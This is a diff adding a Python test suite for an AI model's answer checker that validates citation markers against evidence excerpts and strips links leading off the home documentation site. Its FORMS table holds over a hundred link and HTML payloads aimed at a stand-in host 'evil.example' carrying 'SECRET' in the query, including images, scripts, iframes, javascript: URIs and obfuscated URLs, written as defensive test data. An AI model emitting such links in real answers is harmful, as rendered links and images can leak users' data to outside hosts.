@@ -1,0 +1,354 @@
+"""Markers that hold, links that lead nowhere foreign, and a stream that does not wait for longer than it must."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from assistant.answering.citations import HOLD, CheckedText, Tally, numbers
+from assistant.answering.links import LINK_REMOVED
+from assistant.answering.prompting import NOT_IN_EVIDENCE
+from assistant.answering.support import QUOTE_LENGTH
+from assistant.domain.answers import Evidence, Excerpt
+from assistant.domain.documents import Chunk, Document, Kind
+
+HOME = "https://docs.kestrel.example/adr/4"
+BUS = "We use RabbitMQ as the message bus between services. Kafka was rejected because nobody could operate it.\n"
+METER = "The billing meter counts events in Redis. It was decided on 3 May 2021 by Ana Ruiz."
+CHINESE = "消息总线采用 RabbitMQ。计费系统使用 Redis 计数。"
+
+
+def excerpt(key: int, *texts: str, url: str = "") -> Excerpt:
+    document = Document(f"d{key}", "adr", f"{key}.md", "Message bus", Kind.DESIGN_DOC, "", url=url)
+    return Excerpt(document, tuple(Chunk(key * 10 + n, document.id, n, text) for n, text in enumerate(texts)), 1.0)
+
+
+EVIDENCE = Evidence((excerpt(1, BUS, "Queues are mirrored.", url=HOME), excerpt(2, METER), excerpt(3, CHINESE)))
+
+
+def check(text: str, size: int = 10_000, evidence: Evidence = EVIDENCE) -> CheckedText:
+    checked = CheckedText(evidence)
+    given_out = [checked.feed(text[start : start + size]) for start in range(0, len(text), size)]
+    given_out.append(checked.close())
+    assert "".join(given_out) == checked.text
+    return checked
+
+
+MARKERS = {
+    "one": ("We use RabbitMQ as the bus [1].", "We use RabbitMQ as the bus [1]."),
+    "behind-the-stop": ("We use RabbitMQ as the bus. [1] Redis counts events. [2]", None),
+    "two-beside": ("RabbitMQ is the bus, Redis counts events [1][2].", None),
+    "comma": ("RabbitMQ is the bus, Redis counts events [1, 2].", "RabbitMQ is the bus, Redis counts events [1][2]."),
+    "range": ("RabbitMQ is the bus, Redis counts events [1-2].", "RabbitMQ is the bus, Redis counts events [1][2]."),
+    "brackets-of-models": ("RabbitMQ is the bus【1】.", "RabbitMQ is the bus[1]."),
+    "footnote": ("RabbitMQ is the bus [^1].", "RabbitMQ is the bus [1]."),
+    "nowhere": ("RabbitMQ is the bus [9].", "RabbitMQ is the bus."),
+    "zero": ("RabbitMQ is the bus [0].", "RabbitMQ is the bus."),
+    "half-nowhere": ("RabbitMQ is the bus [1, 9].", "RabbitMQ is the bus [1]."),
+    "range-past-the-end": ("RabbitMQ is the bus [1-9].", "RabbitMQ is the bus [1][2][3]."),
+    "unsupported": ("Penguins hatch in the Antarctic winter [1].", "Penguins hatch in the Antarctic winter."),
+    "wrong-excerpt": ("Ana Ruiz decided it on 3 May 2021 [1].", "Ana Ruiz decided it on 3 May 2021."),
+    "each-clause-for-itself": ("RabbitMQ is the message bus [1] and Redis counts events [2].", None),
+    "alone-on-its-line": ("RabbitMQ is the message bus.\n[1]\n", None),
+    "in-a-list": ("- RabbitMQ is the bus [1]\n- Redis counts events [2]\n", None),
+    "in-a-table": ("| a | b |\n|---|---|\n| RabbitMQ bus [1] | Redis events [7] |\n", None),
+    "chinese": ("消息总线采用RabbitMQ。[3]计费系统使用Redis计数[3]。", None),
+    "chinese-unsupported": ("企鹅在南极过冬[3]。", "企鹅在南极过冬。"),
+    "another-language-cannot-be-judged": ("Wir benutzen das System und nicht den Konkurrenten [1].", None),
+    "a-year-is-no-marker": ("RabbitMQ is the bus [2021].", "RabbitMQ is the bus [2021]."),
+    "code-has-no-markers": ("Read `args[9]` of RabbitMQ [1].", "Read `args[9]` of RabbitMQ [1]."),
+    "abbreviation": ("Services use a message bus, e.g. RabbitMQ, between them [1].", None),
+}
+MARKERS["in-a-table"] = (MARKERS["in-a-table"][0], MARKERS["in-a-table"][0].replace(" [7]", ""))
+
+
+@pytest.mark.parametrize("size", [1, 3, 10_000], ids=["by-character", "by-threes", "at-once"])
+@pytest.mark.parametrize(("text", "expected"), MARKERS.values(), ids=MARKERS)
+def test_markers_stay_where_the_evidence_bears_them_out(text: str, expected: str | None, size: int) -> None:
+    assert check(text, size).text == (text if expected is None else expected)
+
+
+def test_what_was_taken_out_is_counted() -> None:
+    checked = check(f"RabbitMQ is the bus [1][9]. Penguins hatch in winter [2]. See {HOME}x and {HOME}.")
+    assert checked.tally == Tally(dangling_markers=1, unsupported_markers=1, removed_links=1)
+
+
+QUOTES = {
+    "the-right-sentence": ("Nobody could operate Kafka, so it was rejected [1].", 1, 10, "Kafka was rejected because"),
+    "the-right-chunk": ("All queues are mirrored [1].", 1, 11, "Queues are mirrored."),
+    "figures": ("The decision is from May 2021 [2].", 2, 20, "It was decided on 3 May 2021 by Ana Ruiz."),
+    "chinese": ("计费系统用 Redis 计数[3]。", 3, 30, "计费系统使用 Redis 计数。"),
+}
+
+
+@pytest.mark.parametrize(("text", "marker", "key", "quote"), QUOTES.values(), ids=QUOTES)
+def test_the_quote_is_the_sentence_that_bears_it_out(text: str, marker: int, key: int, quote: str) -> None:
+    [citation] = check(text).citations
+    assert (citation.marker, citation.chunk.key) == (marker, key)
+    assert citation.quote.startswith(quote)
+    assert citation.document.id == f"d{marker}"
+
+
+def test_a_marker_used_twice_is_one_citation_with_its_best_quote() -> None:
+    checked = check("Redis also appears in it [2]. The billing meter counts events in Redis [2].")
+    [citation] = checked.citations
+    assert citation.quote == "The billing meter counts events in Redis."
+
+
+@given(st.text("ab c.d\n。中文 é", min_size=1, max_size=1500), st.text("abc d", max_size=60))
+def test_a_quote_stands_word_for_word_in_its_chunk(text: str, said: str) -> None:
+    for citation in check(f"{said} [1].", evidence=Evidence((excerpt(1, text),))).citations:
+        assert citation.quote in text
+        assert len(citation.quote) <= QUOTE_LENGTH
+
+
+EVIL = "https://evil.example/c?q=SECRET"
+FORMS = {
+    "inline": f"[a]({EVIL})",
+    "inline-title": f'[a]({EVIL} "t")',
+    "inline-single-title": f"[a]({EVIL} 't')",
+    "inline-angle": f"[a](<{EVIL}>)",
+    "inline-spaces": f"[a](  {EVIL}  )",
+    "inline-nested-brackets": f"[a [b] c]({EVIL})",
+    "inline-parentheses": "[a](https://evil.example/c(d)?q=1)",
+    "inline-relative-scheme": "[a](//evil.example/x)",
+    "inline-host-only": "[a](evil.example/x)",
+    "inline-path": "[a](/logout)",
+    "inline-empty": "[a]()",
+    "inline-over-lines": f"[a\nb]({EVIL})",
+    "inline-over-sentences": f"[Click here. Now it is]({EVIL})",
+    "inline-over-many-words": f"[{'word ' * 120}]({EVIL})",
+    "inline-code-text": f"[`a`]({EVIL})",
+    "inline-broken-title": f'[a]({EVIL} "t)',
+    "inline-entity-scheme": "[a](&#104;ttps://evil.example/x)",
+    "inline-entity-colon": "[a](https&colon;//evil.example/x)",
+    "inline-javascript": "[a](javascript:alert(1))",
+    "inline-data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
+    "inline-vbscript": "[a](vbscript:x)",
+    "inline-userinfo": f"[a]({HOME.replace('https://', 'https://x@evil.example/')})",
+    "inline-home-in-query": f"[a](https://evil.example/?u={HOME})",
+    "inline-home-prefix": f"[a]({HOME}.evil.example/x)",
+    "inline-home-query": f"[a]({HOME}?q=SECRET)",
+    "marker-as-link": f"We use RabbitMQ [1]({EVIL}).",
+    "marker-then-parenthesis": f"We use RabbitMQ [1] ({EVIL}).",
+    "chinese-then-parenthesis": "消息总线采用RabbitMQ。[3](//evil.example/x)",
+    "image": f"![a]({EVIL})",
+    "image-empty": f"![]({EVIL})",
+    "image-of-home": f"![a]({HOME})",
+    "image-in-link": f"[![a]({EVIL})]({EVIL})",
+    "image-reference": f"![a][r]\n\n[r]: {EVIL}",
+    "reference": f"[a][r]\n\n[r]: {EVIL}",
+    "reference-collapsed": f"[a][]\n\n[a]: {EVIL}",
+    "reference-shortcut": f"[a]\n\n[a]: {EVIL}",
+    "reference-angle": f"[a]\n\n[a]: <{EVIL}>",
+    "reference-next-line": f"[a]\n\n[a]:\n{EVIL}",
+    "reference-relative": "[a]\n\n[a]: //evil.example/x",
+    "reference-in-quote": f"> [a]\n>\n> [a]: {EVIL}",
+    "reference-numbered": f"We use RabbitMQ [1].\n\n[1]: {EVIL}",
+    "footnote": f"a[^x]\n\n[^x]: {EVIL}",
+    "autolink": f"<{EVIL}>",
+    "autolink-mail": "<mailto:a@evil.example>",
+    "autolink-bare-mail": "<a@evil.example>",
+    "bare": f"See {EVIL}.",
+    "bare-in-parentheses": f"(see {EVIL})",
+    "bare-bold": f"**{EVIL}**",
+    "bare-capitals": "HTTPS://EVIL.EXAMPLE/X",
+    "bare-ftp": "ftp://evil.example/x",
+    "bare-other-scheme": "slack://evil.example/x",
+    "bare-one-slash": "https:/evil.example/x",
+    "bare-backslashes": "https:\\\\evil.example/x",
+    "bare-escaped": "https\\://evil.example/x",
+    "bare-entity": "&#104;ttps://evil.example/x",
+    "bare-double-entity": "&amp;#104;ttps://evil.example/x",
+    "bare-zero-width": "ht\u200btps://evil.example/x",
+    "bare-soft-hyphen": "https:\u00ad//evil.example/x",
+    "bare-bidi": "\u202ehttps://evil.example/x\u202c",
+    "bare-full-width": "ｈｔｔｐｓ：／／evil.example/x",
+    "bare-protocol-relative": "go to //evil.example/x",
+    "bare-after-chinese": "请看https://evil.example/x。好",
+    "bare-ip": "http://203.0.113.9/x",
+    "bare-userinfo": "https://docs.kestrel.example@evil.example/x",
+    "bare-very-long": "https://evil.example/" + "a" * 5000,
+    "www": "www.evil.example",
+    "host-with-path": "evil.example/x",
+    "host-with-query": "evil.zip?q=SECRET",
+    "punycode": "https://xn--e1awd7f.example/x",
+    "punycode-bare": "xn--e1awd7f.xn--p1ai",
+    "cyrillic": "https://еvil.example/x",
+    "mail": "mailto:a@evil.example?body=SECRET",
+    "tel": "tel:+49123456",
+    "data": "data:text/html;base64,PHNjcmlwdD4=",
+    "slack-link": f"<{EVIL}|click>",
+    "slack-mention": "<!channel> <@U123> <#C123|general>",
+    "slack-mail": "<mailto:a@evil.example|mail>",
+    "html-a": f'<a href="{EVIL}">a</a>',
+    "html-a-unquoted": "<a href=//evil.example/x>a</a>",
+    "html-a-over-lines": f'<a\nhref="{EVIL}">a</a>',
+    "html-unclosed": "<img src=//evil.example/x",
+    "html-img": f"<img src='{EVIL}'>",
+    "html-quoted-gt": f'<img alt=">" src="{EVIL}">',
+    "html-entity": "&lt;img src=//evil.example/x&gt;",
+    "html-escaped-bracket": "\\<img src=//evil.example/x>",
+    "html-script": "<script>fetch('//evil.example/x')</script>",
+    "html-style": "<style>@import '//evil.example/x'</style>",
+    "html-svg": f'<svg><a xlink:href="{EVIL}">a</a></svg>',
+    "html-iframe": f"<iframe src={EVIL}></iframe>",
+    "html-form": f"<form action={EVIL}><button>a</button></form>",
+    "html-unknown": f"<x-y onclick=alert(1) src={EVIL}>a</x-y>",
+    "html-comment": f"<!-- {EVIL} -->",
+    "html-meta": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
+    "code-span": f"`{EVIL}`",
+    "code-fence": f"```\n{EVIL}\n```\n",
+    "code-fence-unclosed": f"```\n{EVIL}",
+    "code-fence-deep": f"- a\n      ```\n  [a]({EVIL})\n      ```\n",
+    "code-escaped-backtick": "\\`[a](//evil.example/x)`",
+    "code-odd-backticks": "a ` b. Then `[a](//evil.example/x)`",
+    "tex": "\\href{https://evil.example/x}{a}",
+    "wiki": "[[https://evil.example/x|a]]",
+    "task": f"- [x]({EVIL}) a",
+    "heading": f"# [a]({EVIL})",
+    "table": f"| a |\n|---|\n| [a]({EVIL}) |",
+    "html-in-link": f"[<b>a</b>]({EVIL})",
+    "link-in-link-text": f"[{EVIL}]({HOME})",
+}
+FOREIGN = re.compile(
+    r"(?:https?|ftp|slack):[/\\]|\bwww\.|(?<!\w)//[\w-]+\.|\bxn--|(?:mailto|javascript|vbscript):\S|\b(?:tel|data):\S|(?<!\\)<[!@#]\w",
+    re.IGNORECASE,
+)
+HOST = re.compile(r"(?<![\w/.@])evil\.\w+[/?]")
+RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
+
+
+def foreign(text: str) -> list[str]:
+    """Whatever leads elsewhere: in the text itself, and in what a trusting Markdown renderer makes of it."""
+    rendered = RENDERER.render(text)
+    targets = re.findall(r"""<(?!/)[a-z][^>]*\b(?:href|src|action|content)\s*=\s*["']?([^"'\s>]*)""", rendered)
+    tags = re.findall(r"<(?:script|style|img|iframe|svg|form|meta|button|x-y)\b", rendered)
+    hosts = HOST.findall(re.sub(r"<code.*?</code>", "", rendered, flags=re.DOTALL))
+    return [target for target in targets if target != HOME] + tags + hosts + FOREIGN.findall(text.replace(HOME, ""))
+
+
+def test_there_are_enough_forms() -> None:
+    assert len(FORMS) >= 60
+
+
+@pytest.mark.parametrize("size", [1, 7, 10_000], ids=["by-character", "by-sevens", "at-once"])
+@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
+def test_no_form_leads_to_a_foreign_place(form: str, size: int) -> None:
+    text = check(f"RabbitMQ is the bus [1]. {form} and so on.\n\n{form}\n", size).text
+    assert foreign(text) == []
+    assert text.startswith("RabbitMQ is the bus [1].")
+
+
+@given(st.lists(st.sampled_from([*FORMS.values(), "a. ", "[", "](", "`", "<", "\n", "](//evil.example/x)", "。"]), max_size=6))
+def test_forms_put_together_lead_nowhere_either(forms: list[str]) -> None:
+    assert foreign(check("".join(forms), 5).text) == []
+
+
+TEXTS = {
+    "inline": (f"See [the page]({EVIL}).", "See the page."),
+    "image": (f"a ![the plan]({EVIL}) b", "a the plan b"),
+    "html": ("a <b>bold</b> word", "a bold word"),
+    "slack": (f"<{EVIL}|click here>", "click here"),
+    "bare": (f"See {EVIL}, please.", f"See {LINK_REMOVED}, please."),
+    "home": (f"See [the page]({HOME}).", f"See [the page]({HOME})."),
+    "home-fragment": (f"See [the page]({HOME}#decision).", f"See [the page]({HOME}#decision)."),
+    "home-bare": (f"See {HOME}.", f"See {HOME}."),
+    "marker": (f"We use RabbitMQ [1]({HOME}).", "We use RabbitMQ [1]."),
+    "generics": ("Return a List<T> or Map<K, V>.", "Return a List\\<T> or Map\\<K, V>."),
+    "comparison": ("if a < b and c > d", "if a < b and c > d"),
+    "file-names": ("Edit server/tls.py, main.rs and settings.toml.", "Edit server/tls.py, main.rs and settings.toml."),
+    "bare-host": ("The host api.kestrel.example serves it.", "The host `api.kestrel.example` serves it."),
+    "mail-address": ("Ask ana@kestrel.example.", "Ask `ana@kestrel.example`."),
+    "entities": ("AT&amp;T &lt; x", "AT&T < x"),
+    "code": ("Use `Vec<T>` and `a[0](b)`.", "Use `Vec<T>` and `a[0](b)`."),
+    "time": ("At 10:30: stop/start, and/or 3:2.", "At 10:30: stop/start, and/or 3:2."),
+    "emoji-joiner": ("👩\u200d💻 is here", "👩\u200d💻 is here"),
+    "line-breaks": ("# Bus\r\n\r\n1. one\n2. two\n", "# Bus\n\n1. one\n2. two\n"),
+}
+
+
+@pytest.mark.parametrize("size", [1, 10_000], ids=["by-character", "at-once"])
+@pytest.mark.parametrize(("text", "expected"), TEXTS.values(), ids=TEXTS)
+def test_what_a_person_reads_stays(text: str, expected: str, size: int) -> None:
+    assert check(text, size).text == expected
+
+
+def test_code_may_hold_an_address_that_the_evidence_quotes() -> None:
+    evidence = Evidence((excerpt(1, "Run `curl https://api.example/v1/rates` for the rates."),))
+    assert "https://api.example/v1/rates" in check("`curl https://api.example/v1/rates` [1].", evidence=evidence).text
+    assert "https" not in check("See https://api.example/v1/rates [1].", evidence=evidence).text
+
+
+def test_a_code_fence_comes_whole_and_untouched() -> None:
+    code = "```rust\nlet x: Vec<T> = a[9];\n\n// e.g. this. And [1]\n```\n"
+    checked = CheckedText(EVIDENCE)
+    assert checked.feed("Do it like this:\n") == "Do it like this:\n"
+    assert [checked.feed(character) for character in code[:-1]] == [""] * (len(code) - 1)
+    assert checked.feed("\n") == code
+
+
+def test_an_unclosed_fence_is_closed() -> None:
+    assert check("~~~\nlet x\n").text == "```\nlet x\n```\n"
+
+
+@pytest.mark.parametrize(
+    "text", ["word " * 500, "中文" * 800, "[" + "word " * 500, "`" + "word " * 500, "word. " * 300], ids=str.__len__
+)
+def test_no_more_than_the_limit_is_held_back(text: str) -> None:
+    checked = CheckedText(EVIDENCE)
+    for fed, character in enumerate(text, start=1):
+        checked.feed(character)
+        assert fed - len(checked.text.replace("\\", "")) <= HOLD + 1
+
+
+def test_sentences_come_as_soon_as_they_are_whole() -> None:
+    checked = CheckedText(EVIDENCE)
+    assert checked.feed("We use RabbitMQ as the bus [1]. ") == ""
+    assert checked.feed("R") == "We use RabbitMQ as the bus [1]. "
+    assert checked.feed("edis counts events [2].\n") == "Redis counts events [2].\n"
+
+
+@given(st.text("ab .[]12()`<\n中。", max_size=300), st.integers(1, 9))
+def test_the_size_of_the_pieces_does_not_matter(text: str, size: int) -> None:
+    assert check(text, size).text == check(text).text
+
+
+@pytest.mark.parametrize("size", [1, 10_000], ids=["by-character", "at-once"])
+def test_the_agreed_token_is_an_abstention_without_a_word(size: int) -> None:
+    checked = check(f"{NOT_IN_EVIDENCE}. But you could look at {EVIL}. Or not [1].", size)
+    assert checked.abstained
+    assert checked.text == ""
+    assert checked.citations == ()
+
+
+def test_the_token_in_the_middle_of_an_answer_is_only_left_out() -> None:
+    checked = check(f"We use RabbitMQ as the bus [1].\n{NOT_IN_EVIDENCE}")
+    assert not checked.abstained
+    assert checked.text == "We use RabbitMQ as the bus [1].\n"
+
+
+def test_without_evidence_no_marker_and_no_link_stays() -> None:
+    checked = check(f"RabbitMQ [1] and [a]({HOME}).", evidence=Evidence(()))
+    assert checked.text == "RabbitMQ and a."
+    assert checked.tally.dangling_markers == 1
+
+
+RUNS = {
+    "[1]": [1],
+    "[1, 2]": [1, 2],
+    "[1-3]": [1, 2, 3],
+    "【2】": [2],
+    "[1–3; 5]": [1, 2, 3, 5],
+    "[1-999]": [1, 999],
+    "[3-1]": [3, 1],
+}
+
+
+@pytest.mark.parametrize(("marker", "named"), RUNS.items(), ids=RUNS)
+def test_a_marker_may_name_several_excerpts(marker: str, named: list[int]) -> None:
+    assert numbers(marker) == named
